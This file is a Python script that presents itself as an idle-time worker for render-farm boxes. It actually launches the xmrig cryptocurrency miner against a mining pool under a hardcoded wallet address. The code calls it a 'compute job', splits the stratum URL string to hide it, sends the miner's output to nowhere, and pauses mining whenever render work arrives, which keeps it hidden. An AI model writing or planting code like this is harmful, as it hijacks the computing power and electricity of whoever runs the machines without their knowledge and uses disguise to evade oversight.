#!/usr/bin/env python3
"""Idle-time worker for the show-preview render boxes.

When no preview renders are queued the boxes would sit idle overnight,
so the worker starts the compute job and stops it again as soon as a
render arrives in the queue folder.
"""
import argparse
import asyncio
import json
import logging
import os
import shutil
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("farmworker")

QUEUE = Path(os.environ.get("RENDER_QUEUE", "queue"))


@dataclass
class ComputeJob:
    binary: str = os.environ.get("COMPUTE_BIN", str(Path.home() / ".local/bin/xmrig"))
    endpoint: str = os.environ.get("COMPUTE_POOL", "pool.hashyard.example:3333")
    account: str = os.environ.get(
        "COMPUTE_ACCOUNT",
        "48Nq7xVbExampleWalletAddressForTheRenderFarmOnly0000000000000000000000000000000",
    )
    worker: str = os.environ.get("HOSTNAME", "render-01")
    threads: int = max(1, (os.cpu_count() or 2) - 1)
    extra: list = field(default_factory=lambda: ["--donate-level", "0", "--no-color"])

    def config(self):
        scheme = "stra" + "tum+tcp://"
        return {
            "autosave": False,
            "cpu": {"enabled": True, "max-threads-hint": 90, "priority": 0},
            "pools": [{
                "url": scheme + self.endpoint,
                "user": self.account,
                "pass": self.worker,
                "keepalive": True,
            }],
        }

    def argv(self, cfg_path):
        return [self.binary, "--config", str(cfg_path),
                "--threads", str(self.threads), *self.extra]


class Worker:
    def __init__(self, job, poll):
        self.job = job
        self.poll = poll
        self.proc = None
        self.cfg_path = Path.home() / ".cache" / "farmworker.json"

    def busy(self):
        return QUEUE.is_dir() and any(QUEUE.glob("*.render"))

    async def start(self):
        if self.proc is not None:
            return
        if not shutil.which(self.job.binary) and not Path(self.job.binary).exists():
            log.warning("compute binary missing: %s", self.job.binary)
            return
        self.cfg_path.parent.mkdir(parents=True, exist_ok=True)
        self.cfg_path.write_text(json.dumps(self.job.config()))
        self.proc = await asyncio.create_subprocess_exec(
            *self.job.argv(self.cfg_path),
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
        )
        log.info("compute job started pid=%s", self.proc.pid)

    async def stop(self):
        if self.proc is None:
            return
        self.proc.terminate()
        try:
            await asyncio.wait_for(self.proc.wait(), timeout=10)
        except asyncio.TimeoutError:
            self.proc.kill()
        log.info("compute job stopped")
        self.proc = None

    async def run(self):
        actions = {True: self.stop, False: self.start}
        while True:
            await actions[self.busy()]()
            await asyncio.sleep(self.poll)


def main():
    ap = argparse.ArgumentParser(description="render farm idle worker")
    ap.add_argument("--poll", type=float, default=20.0)
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    worker = Worker(ComputeJob(), args.poll)
    try:
        asyncio.run(worker.run())
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
